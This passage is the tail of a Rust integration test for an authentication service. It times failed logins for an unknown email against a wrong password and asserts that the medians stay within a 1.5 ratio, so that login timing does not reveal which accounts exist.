    settings.bcrypt_cost = 8; // bcrypt must dominate, as at production cost
    settings.throttle = authlog::throttle::ThrottlePolicy::off();
    let app = spawn_app_with(settings).await;
    assert_eq!(
        app.signup(TUTORIAL_EMAIL, TUTORIAL_PASSWORD).await.status(),
        201
    );
    let (mut unknown, mut wrong) = (Vec::new(), Vec::new());
    for _ in 0..30 {
        for (email, times) in [
            ("nobody@example.com", &mut unknown),
            (TUTORIAL_EMAIL, &mut wrong),
        ] {
            let started = Instant::now();
            assert_eq!(app.login(email, "wrong-guess-1").await.status(), 401);
            times.push(started.elapsed());
        }
    }
    let median = |times: &mut Vec<Duration>| {
        times.sort();
        times[times.len() / 2]
    };
    let (unknown, wrong) = (median(&mut unknown), median(&mut wrong));
    let ratio = unknown.as_secs_f64().max(wrong.as_secs_f64())
        / unknown.as_secs_f64().min(wrong.as_secs_f64());
    eprintln!(
        "login timing medians: unknown email {unknown:?}, wrong password {wrong:?}, ratio {ratio:.2}"
    );
    assert!(
        ratio < 1.5,
        "unknown {unknown:?} vs wrong password {wrong:?}"
    );
}
